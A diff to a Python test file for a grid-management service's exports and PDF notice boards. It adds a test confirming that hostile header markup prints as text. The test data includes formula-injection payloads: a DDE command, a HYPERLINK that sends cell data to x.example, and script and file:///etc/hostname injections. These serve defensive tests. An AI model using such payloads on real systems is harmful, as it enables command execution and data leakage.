@@ -22,7 +22,7 @@ from api.cli import main
 from api.db import session_scope
 from api.incidents.models import IncidentCase
 from geo.spreadsheet import FORMULA_PREFIXES
-from tests.api.attack_helpers import World, attack_world, ids_with_check
+from tests.api.attack_helpers import World, attack_world, grid_point, ids_with_check
 
 #: Values a spreadsheet would run as formulas, and one with a control character XML cannot hold.
 FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0"]
@@ -95,21 +95,13 @@ def test_register_export_neutralises_formulas_keeps_numbers_and_reads_back(world
 
 
 def _workorders(world: World, tmp: Path) -> Path:
-    lon, lat = _lonlat(world)
+    lon, lat = grid_point(world)
     rows = [{"工单编号": f"{p}{i}", "诉求内容": p + " 楼道堆物", "类别": "SJ-0201", "地址": "-1号楼",
              "坐标": f"{lon},{lat}", "受理时间": "2026-11-03 10:00", "时限": "24小时", "状态": ""}
             for i, p in enumerate(["=1+2", "-20261103", "+86", "@x", FORMULAS[0]])]
     path = tmp / "hostile-12345.csv"
     path.write_bytes(pd.DataFrame(rows).to_csv(index=False).encode("utf-8-sig"))
     return path
-
-
-def _lonlat(world: World) -> tuple[float, float]:
-    from api.grids.service import active_grids
-
-    with world.app.app_context(), session_scope() as s:
-        p = active_grids(s).set_index("key").loc[world.A, "geometry"].representative_point()
-    return float(p.x), float(p.y)
 
 
 def _cases(world: World) -> int:
@@ -182,3 +174,25 @@ def test_coverage_with_no_patrol_at_all_is_a_table_of_zeros_not_a_500(world: Wor
                                                     "-o", str(out)])
     assert res.exit_code == 0, res.output
     _assert_csv_safe(out.read_bytes())
+
+
+def test_a_board_prints_hostile_header_and_names_as_text_and_fetches_nothing(world: World, tmp_path: Path) -> None:
+    import re
+    import subprocess
+
+    header = '<img src="file:///etc/hostname"><script>alert(1)</script>=HYPERLINK("x")'
+    world.app.config["WANGGE"]["board_header_text"] = header
+    try:
+        r = world.clients["admin"].get(f"/boards/{world.A}.pdf?drafts=1")
+    finally:
+        world.app.config["WANGGE"]["board_header_text"] = "网格化服务管理公示牌"
+    assert r.status_code == 200, r.get_data()[:300]
+    pdf = tmp_path / "board.pdf"
+    pdf.write_bytes(r.get_data())
+    text = re.sub(r"\s+", "", subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True,
+                                             check=True, timeout=60).stdout)
+    assert re.sub(r"\s+", "", header) in text  # the markup printed as text
+    assert "alert(2)" in text  # the grid's hostile party branch name (支部1"><script>alert(2)…) too
+    images = subprocess.run(["pdfimages", "-list", str(pdf)], capture_output=True, text=True, check=True,
+                            timeout=60).stdout.splitlines()[2:]
+    assert len(images) <= 3  # map, QR code, maybe a photo: nothing fetched from the header's <img>
